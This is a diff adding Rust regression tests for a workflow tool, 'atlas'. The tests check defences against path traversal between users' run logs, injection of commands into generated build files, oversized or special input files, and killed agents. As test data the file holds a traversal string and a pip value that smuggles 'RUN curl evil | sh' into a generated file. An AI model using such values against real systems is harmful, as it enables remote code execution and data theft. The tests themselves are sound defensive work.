@@ -1,0 +1,244 @@
+//! Regressions of the hostile test (issue 13), through the built binary: names are never paths,
+//! values written into generated files are validated, bounded input, live phase output, and a
+//! run whose agent was killed is ended with its cause.
+
+mod support {
+    pub mod project;
+    pub mod server;
+}
+
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use support::project::Project;
+use support::server::{get, post, Server};
+
+const HEAD: &str = "apiVersion: atlas.dev/v1alpha1\nkind: Workflow\nmetadata: {name: w}\nspec:\n";
+
+fn write(p: &Project, name: &str, text: &str) -> String {
+    std::fs::write(p.dir.join(name), text).unwrap();
+    name.to_string()
+}
+
+/// Polls `check` every 100 ms for at most 60 s (generous: a busy machine is slow, not wrong).
+fn eventually(what: &str, mut check: impl FnMut() -> bool) {
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while !check() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+#[test]
+fn a_phase_name_cannot_reach_another_runs_log() {
+    let p = Project::new("cross-log", "");
+    let db = p.dir.join("db/atlas.db");
+    std::fs::create_dir_all(db.parent().unwrap()).unwrap();
+    let server = Server::start(&p.dir, &db);
+    let alice = server.add_user("alice");
+    server.add_user("bob");
+    let secret = "bob-secret-7f3a";
+    let w = write(
+        &p,
+        "w.yaml",
+        &format!("{HEAD}  phases:\n  - {{name: train, run: 'echo {secret}'}}\n"),
+    );
+    let run_as = |user: &str| {
+        let out = Command::new(env!("CARGO_BIN_EXE_atlas"))
+            .args(["run", &w, "--on", "local"])
+            .current_dir(&p.dir)
+            .env("ATLAS_DB", &db)
+            .env("ATLAS_USER", user)
+            .env("XDG_CONFIG_HOME", p.dir.join("no-user-config"))
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    run_as("bob");
+    run_as("alice");
+    let runs = p.runs();
+    let id_of = |owner: &str| {
+        runs.iter()
+            .find(|r| r["owner"] == owner)
+            .and_then(|r| r["id"].as_str())
+            .unwrap()
+            .to_string()
+    };
+    let (bob_run, alice_run) = (id_of("bob"), id_of("alice"));
+    let evil = format!("../../{bob_run}/logs/train");
+    let record = serde_json::json!({"run": alice_run, "seq": 100_000, "time": 1.0, "mono": 1.0,
+        "type": "phaseStart", "phase": evil, "index": 5});
+    let (status, body) = post(
+        &server,
+        "/api/v1/records",
+        &alice,
+        record.to_string().as_bytes(),
+    );
+    assert!(status == 400 || status == 200, "{status} {body}");
+    let path = format!(
+        "/api/v1/runs/{alice_run}/log?phase={}",
+        evil.replace('/', "%2F")
+    );
+    let (_, body) = get(&server, &path, Some(&alice));
+    assert!(!body.contains(secret), "bob's output reached alice: {body}");
+    // Alice's own log is still served.
+    let (status, body) = get(
+        &server,
+        &format!("/api/v1/runs/{alice_run}/log?phase=train"),
+        Some(&alice),
+    );
+    assert_eq!(status, 200, "{body}");
+    assert!(body.contains(secret), "{body}");
+}
+
+#[test]
+fn values_that_would_change_generated_files_are_refused() {
+    let p = Project::new("validate", "");
+    let cases = [
+        ("walltime", "  resources:\n    walltime: 18446744073709551615s\n  phases: [{name: main, run: 'true'}]\n"),
+        ("pip", "  image:\n    pip:\n    - \"numpy\\nRUN curl evil | sh\"\n  phases: [{name: main, run: 'true'}]\n"),
+        ("nodes", "  resources:\n    nodes: 0\n  phases: [{name: main, run: 'true'}]\n"),
+        ("phases", "  phases: []\n"),
+        ("name", "  phases: [{name: 'a/b', run: 'true'}]\n"),
+    ];
+    for (what, spec) in cases {
+        let file = write(&p, "w.yaml", &format!("{HEAD}{spec}"));
+        let (code, _, stderr) = p.atlas(&["validate", &file]);
+        assert_eq!(code, 2, "{what}: {stderr}");
+        assert!(
+            stderr.contains("w.yaml:"),
+            "{what} has no file:line: {stderr}"
+        );
+    }
+    std::fs::write(
+        p.dir.join("bad.yaml"),
+        b"apiVersion: atlas.dev/v1alpha1\n\xff\xfe\n",
+    )
+    .unwrap();
+    let (code, _, stderr) = p.atlas(&["validate", "bad.yaml"]);
+    assert_eq!(code, 2);
+    assert!(stderr.contains("bad.yaml:2: not UTF-8"), "{stderr}");
+}
+
+#[test]
+fn a_walltime_of_zero_means_no_limit() {
+    let p = Project::new("t0", "");
+    let script = write(
+        &p,
+        "job.sh",
+        "#!/bin/bash\n#SBATCH -t 0\n# atlas: phase main\ntrue\n",
+    );
+    let (code, _, stderr) = p.atlas(&["run", &script, "--on", "local"]);
+    assert_eq!(code, 0, "{stderr}");
+    let (_, _, report) = p.atlas(&["import", &script]);
+    assert!(report.contains("0 means no time limit"), "{report}");
+}
+
+#[test]
+fn endless_and_special_files_are_refused_at_once() {
+    let p = Project::new("special", "");
+    let fifo = p.dir.join("fifo");
+    assert!(Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap()
+        .success());
+    for (command, file) in [
+        ("validate", fifo.to_str().unwrap()),
+        ("import", "/dev/zero"),
+    ] {
+        let started = Instant::now();
+        let (code, _, stderr) = p.atlas(&[command, file]);
+        assert_eq!(code, 2, "{stderr}");
+        assert!(stderr.contains("not a regular file"), "{stderr}");
+        assert!(started.elapsed() < Duration::from_secs(30));
+    }
+}
+
+#[test]
+fn phase_output_is_in_the_log_while_the_phase_runs() {
+    let p = Project::new("live-log", "");
+    let w = write(
+        &p,
+        "w.yaml",
+        &format!("{HEAD}  phases:\n  - {{name: slow, run: 'echo first-line; sleep 300'}}\n"),
+    );
+    let mut run = Command::new(env!("CARGO_BIN_EXE_atlas"))
+        .args(["run", &w, "--on", "local"])
+        .current_dir(&p.dir)
+        .env("ATLAS_DB", p.dir.join("db/atlas.db"))
+        .env("XDG_CONFIG_HOME", p.dir.join("no-user-config"))
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut id = String::new();
+    eventually("the run to start", || {
+        let runs = if p.dir.join("db/atlas.db").exists() {
+            p.runs()
+        } else {
+            vec![]
+        };
+        id = runs
+            .first()
+            .and_then(|r| r["id"].as_str())
+            .unwrap_or("")
+            .to_string();
+        !id.is_empty() && runs[0]["status"] == "running"
+    });
+    eventually("the first line in the live log", || {
+        p.atlas(&["logs", &id]).1.contains("first-line")
+    });
+
+    // kill -9 of `atlas run` and of the agent: the run is ended as lost, its job stopped.
+    let pids = pgrep_run(&id);
+    assert!(!pids.is_empty(), "the job's processes carry ATLAS_RUN_ID");
+    // SAFETY: plain kill(2) of our own child.
+    unsafe { libc::kill(run.id() as i32, libc::SIGKILL) };
+    let _ = run.wait();
+    for pid in agent_pids(&id) {
+        // SAFETY: plain kill(2) of the agent this test started.
+        unsafe { libc::kill(pid, libc::SIGKILL) };
+    }
+    eventually("the run to be ended as lost", || {
+        p.runs().iter().any(|r| {
+            r["id"] == id.as_str()
+                && r["status"] == "failed"
+                && r["cause"].as_str().unwrap_or("").starts_with("lost")
+        })
+    });
+    eventually("the job's processes to be gone", || {
+        pgrep_run(&id).is_empty()
+    });
+    let started = Instant::now();
+    let (code, out, _) = p.atlas(&["logs", &id, "--follow"]);
+    assert_eq!(code, 0);
+    assert!(out.contains("first-line"));
+    assert!(
+        started.elapsed() < Duration::from_secs(30),
+        "logs --follow did not return"
+    );
+}
+
+/// Processes whose environment holds ATLAS_RUN_ID=`id` (the phase and its children).
+fn pgrep_run(id: &str) -> Vec<i32> {
+    atlas_agent::procfs::processes_of_run(id)
+}
+
+/// The `atlas agent` processes of run `id` (their command line names it).
+fn agent_pids(id: &str) -> Vec<i32> {
+    std::fs::read_dir("/proc")
+        .unwrap()
+        .flatten()
+        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
+        .filter(|pid| {
+            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            let args: Vec<&[u8]> = cmd.split(|b| *b == 0).collect();
+            args.iter().any(|a| *a == b"agent") && args.iter().any(|a| *a == id.as_bytes())
+        })
+        .collect()
+}
